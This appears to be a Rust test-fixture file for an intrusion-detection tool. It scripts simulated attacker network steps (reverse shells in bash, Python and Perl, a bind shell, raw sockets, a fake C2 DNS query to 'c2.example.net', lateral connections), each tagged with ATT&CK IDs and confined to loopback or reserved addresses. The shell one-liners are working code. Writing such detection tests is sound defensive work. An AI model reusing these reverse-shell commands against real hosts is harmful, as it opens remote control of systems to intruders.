//! An intruder calls home, and on the neighbours.
//!
//! Nothing leaves the network namespace of the test's node.

use super::{
    How::{C, Perl, Python, Shell},
    Step, step,
};

pub(super) const STEPS: &[Step] = &[
    step(
        "a reverse shell of bash (/dev/tcp)",
        Shell(
            "python3 -c \"import socket; l=socket.create_server(('127.0.0.1',4444)); print(flush=True); \
             c,_=l.accept(); c.sendall(b'exit\\n'); c.recv(1)\" | { read -r up; bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; sh <&5 >&5'; }",
        ),
        "net.connect",
        "tcp 127.0.0.1:4444",
        "T1059.004",
    )
    .by("/usr/bin/bash"),
    step(
        "a reverse shell of Python: a shell whose input and output are a socket",
        Python(
            "import os,socket,subprocess\nl=socket.create_server(('127.0.0.1',4445))\n\
             s=socket.create_connection(('127.0.0.1',4445)); c,_=l.accept(); c.sendall(b'exit\\n')\n\
             subprocess.run(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)",
        ),
        "exec.args",
        "/bin/sh -i",
        "T1059.004",
    ),
    step(
        "the same of Perl",
        Perl(
            "use Socket; socket(L,PF_INET,SOCK_STREAM,0); bind(L,sockaddr_in(4446,INADDR_LOOPBACK)); listen(L,1); \
             socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(4446,INADDR_LOOPBACK)); accept(C,L); \
             syswrite C,\"exit\\n\"; open STDIN,'<&S'; open STDOUT,'>&S'; exec '/bin/sh','-i'",
        ),
        "exec.parent",
        "/usr/bin/perl",
        "T1059.004",
    ),
    step(
        "a bind shell's port",
        Perl(
            "use Socket; socket(L,PF_INET,SOCK_STREAM,0); bind(L,sockaddr_in(31337,INADDR_ANY)); listen(L,1)",
        ),
        "net.listen",
        "tcp 0.0.0.0:31337",
        "T1571",
    ),
    step(
        "somebody comes to that port",
        Python(
            "import socket\nl=socket.create_server(('127.0.0.1',31338)); socket.create_connection(('127.0.0.1',31338)); l.accept()",
        ),
        "net.accept",
        "tcp :31338 from 127.0.0.1",
        "T1021",
    ),
    step(
        "a socket for any packet (packet)",
        Python("import socket; socket.socket(socket.AF_PACKET,socket.SOCK_RAW,0)"),
        "net.socket",
        "packet raw",
        "T1040",
    ),
    step(
        "a socket for any packet (raw)",
        C("socket 2.3.1"),
        "net.socket",
        "inet raw icmp",
        "T1040",
    ),
    step(
        "a socket past the kernel's network (AF_XDP)",
        C("socket 44.3.0"),
        "net.socket",
        "xdp raw",
        "T1106",
    ),
    step(
        "a socket to the kernel's audit",
        Perl("socket(my $s,16,3,9)"),
        "net.socket",
        "netlink audit",
        "T1106",
    ),
    step(
        "an address outside that it never talked to",
        Python(
            "import socket; s=socket.socket(); s.settimeout(0.05)\ntry: s.connect(('203.0.113.7',443))\nexcept OSError: pass",
        ),
        "net.connect",
        "tcp 203.0.113.7:443",
        "T1071",
    ),
    step(
        "a neighbour",
        C("connect 10.88.77.66 8080"),
        "net.connect",
        "tcp 10.88.77.66:8080",
        "T1021",
    ),
    step("SSH of a neighbour", C("connect 10.88.77.66 22"), "net.connect", "tcp 10.88.77.66:22", "T1021.004"),
    step(
        "a pool of miners",
        Perl("use Socket; socket(my $s,PF_INET,SOCK_STREAM,0); connect($s,sockaddr_in(3333,INADDR_LOOPBACK))"),
        "net.connect",
        "tcp 127.0.0.1:3333",
        "T1496",
    ),
    step("a peer by IPv6", C("connect6 ::1 5555"), "net.connect", "tcp [::1]:5555", "T1071"),
    step(
        "a datagram on a socket that was never connected",
        C("datagram 127.0.0.1 5353"),
        "net.connect",
        "udp 127.0.0.1:5353",
        "T1071",
    ),
    step(
        "asks for a name that it never asked for",
        Python(
            "import socket,struct\nl=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); l.bind(('127.0.0.1',53))\n\
             q=b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\2c2\\7example\\3net\\0\\0\\1\\0\\1'\n\
             s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(('127.0.0.1',53)); s.send(q)\n\
             d,a=l.recvfrom(512)\n\
             l.sendto(d[:2]+b'\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0'+d[12:]+b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0<\\0\\4\\x7f\\0\\0\\1',a)\n\
             s.recv(512)",
        ),
        "dns",
        "c2.example.net",
        "T1071.004",
    ),
    step(
        "a hidden channel between processes (an abstract socket)",
        Python(
            "import socket\nl=socket.socket(socket.AF_UNIX); l.bind('\\0beacon'); l.listen()\n\
             s=socket.socket(socket.AF_UNIX); s.connect('\\0beacon')",
        ),
        "net.unix",
        "@beacon",
        "T1559",
    ),
];
